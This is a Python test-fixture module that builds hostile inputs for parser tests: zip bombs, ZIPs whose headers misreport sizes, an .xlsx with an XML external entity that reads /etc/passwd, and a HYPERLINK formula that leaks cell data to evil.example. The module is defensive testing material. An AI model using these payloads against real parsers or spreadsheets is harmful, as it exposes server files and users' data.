"""Hostile files for the parser tests (tests/*/test_*_hostile.py): zip bombs, ZIPs whose
headers lie, workbooks carrying an XML external entity, formula cells.

Built in memory in milliseconds: a bomb's "huge" size is set against a limit the test
lowers, so the guard is proven without unpacking gigabytes.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from openpyxl import load_workbook

PASSWD = "file:///etc/passwd"
XXE_DOCTYPE = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{PASSWD}">]>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def rewrite(content: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    """``content`` (a ZIP) with each member's bytes passed through ``change(name, data)``."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry.filename, change(entry.filename, source.read(entry)))
    return out.getvalue()


def with_member(content: bytes, name: str, data: bytes) -> bytes:
    """``content`` (a ZIP) with one more member."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def bomb(content: bytes, megabytes: int) -> bytes:
    """``content`` plus a member of ``megabytes`` MB of zeros (compressed to a few kB)."""
    return with_member(content, "xl/media/padding.bin", b"\x00" * (megabytes << 20))


def lying_sizes(content: bytes, member: str) -> bytes:
    """``content`` with ``member``'s unpacked size given as 1 byte in both of its headers,
    although it holds more: a reader trusting headers would take it for tiny."""
    data = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entry = archive.getinfo(member)
    struct.pack_into("<I", data, entry.header_offset + 22, 1)  # local header: unpacked size
    name, position = member.encode(), 0
    while (position := data.find(b"PK\x01\x02", position)) != -1:  # central directory entries
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if bytes(data[position + 46 : position + 46 + name_length]) == name:
            struct.pack_into("<I", data, position + 24, 1)  # central entry: unpacked size
            return bytes(data)
        position += 4
    raise AssertionError(f"{member} is not in the central directory")


def xxe(content: bytes, member: str, placeholder: str) -> bytes:
    """``content`` (an .xlsx) where the text ``placeholder`` in ``member`` became ``&xxe;``,
    an entity declared (in a DOCTYPE) to be the contents of /etc/passwd."""

    def change(name: str, data: bytes) -> bytes:
        if name != member:
            return data
        text = data.decode()
        assert placeholder in text, f"{placeholder} is not in {member}"
        start = text.index("?>") + 2 if text.startswith("<?xml") else 0
        text = text[:start] + XXE_DOCTYPE + text[start:]
        return text.replace(placeholder, "&xxe;").encode()

    return rewrite(content, change)


def as_text(content: bytes) -> bytes:
    """``content`` with its formula cells stored as text (what Excel keeps for '=…)."""
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
